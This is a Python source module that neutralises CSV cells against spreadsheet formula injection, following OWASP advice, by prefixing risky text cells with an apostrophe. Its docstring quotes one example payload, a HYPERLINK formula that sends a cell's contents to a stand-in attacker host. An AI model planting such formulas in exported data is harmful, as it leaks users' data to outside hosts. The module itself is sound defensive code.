"""CSV the program writes, with cells a spreadsheet cannot run as formulas.

Titles, notes and OCR text come from scans and editors; a cell such as
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` or ``@SUM(…)`` would run when the CSV is
opened in a spreadsheet. As OWASP recommends ("CSV Injection"), every text cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``, which
spreadsheets show as text and do not display. Plain numbers (``-3``, ``+1.5``) are left alone:
they cannot run anything. Every CSV writer in the program goes through :func:`writer` or
:class:`DictWriter` (one rule, one place).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import IO, Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """``value`` safe as a spreadsheet cell: text that a spreadsheet would read as a formula
    gets a leading apostrophe; anything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose rows are neutralised cell by cell."""

    def __init__(self, out: IO[str], **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: IO[str], **options: Any) -> SafeWriter:
    return SafeWriter(out, **options)


class DictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """``csv.DictWriter`` whose values are neutralised."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: neutralise(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)
